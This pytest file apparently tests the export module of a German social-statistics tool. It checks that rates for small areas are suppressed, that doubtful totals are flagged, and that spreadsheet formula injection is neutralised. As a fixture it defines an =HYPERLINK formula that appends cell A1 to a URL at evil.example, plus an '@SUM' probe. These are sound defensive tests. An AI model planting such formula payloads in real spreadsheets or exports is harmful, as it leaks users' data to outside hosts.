"""Exports: formula injection neutralised (CSV and XLSX), rates of tiny areas left out, doubtful values marked."""

from __future__ import annotations

import csv
import io

import pandas as pd

from sozialraum.export.data_export import export_bytes
from sozialraum.store import Batch, SourceInfo, replace_source
from sozialraum.testing import grid_batch

COLS = ["level", "area_key", "indicator", "period", "value", "numerator", "denominator", "flag"]
KEYS = [f"r{r}c{c}" for r in range(3) for c in range(3)]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'


def _store(store, *, parent_total=None):
    ew = [1000.0] * 8 + [100.0]  # r2c2 has 100 residents: under the minimum population of 300
    rows = [("zelle", k, "ew_gesamt", "2024", v, None, None, None) for k, v in zip(KEYS, ew)]
    rows += [("zelle", k, "rlb", "2024", 50.0, None, None, None) for k in KEYS]
    if parent_total is not None:
        rows.append(("zeile", "row0", "ew_gesamt", "2024", parent_total, None, None, None))
    source, batch = grid_batch(pd.DataFrame(rows, columns=COLS))
    replace_source(store, source, batch, confirm_warnings=True)


def _csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_rates_of_areas_under_the_minimum_population_are_not_exported(store):
    _store(store)
    rows = {r["Gebietsschlüssel"]: r for r in _csv_rows(export_bytes(store, "indicators", "csv", level="zelle"))}
    assert rows["r0c0"]["SGB-II-Quote (%)"] == "5,0"
    assert rows["r2c2"]["SGB-II-Quote (%)"] == ""  # 50 of 100 would be 50 %: not shown for 100 residents
    assert rows["r2c2"]["Einwohner/innen"] == "100"  # the count itself is published


def test_doubtful_values_are_marked_in_the_export(store):
    _store(store, parent_total=3500.0)  # the three cells of row 0 add up to 3000
    rows = {r["Gebietsschlüssel"]: r for r in _csv_rows(export_bytes(store, "indicators", "csv", level="zeile"))}
    assert rows["row0"]["Hinweis"].startswith("unsicher: Einwohner/innen")
    assert "SGB-II-Quote" in rows["row0"]["Hinweis"]  # the rate built on the doubtful total is doubtful too
    assert rows["row1"]["Hinweis"] == ""


def test_formula_injection_is_neutralised_in_csv_and_xlsx(store):
    import geopandas as gpd
    from openpyxl import load_workbook
    from shapely.geometry import Point

    _store(store)
    points = gpd.GeoDataFrame({"provider_id": ["p1"], "service_type": ["kita"], "name": [EVIL],
                               "traeger": ["@SUM(1+1)"]}, geometry=[Point(400500, 5600500)], crs="EPSG:25832")
    replace_source(store, SourceInfo("orte", "Orte"), Batch(points={"providers": points}))
    rows = _csv_rows(export_bytes(store, "sites", "csv"))
    evil = next(r for r in rows if "HYPERLINK" in r["Name"])
    assert evil["Name"] == "'" + EVIL and evil["Träger"] == "'@SUM(1+1)"
    wb = load_workbook(io.BytesIO(export_bytes(store, "sites", "xlsx")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
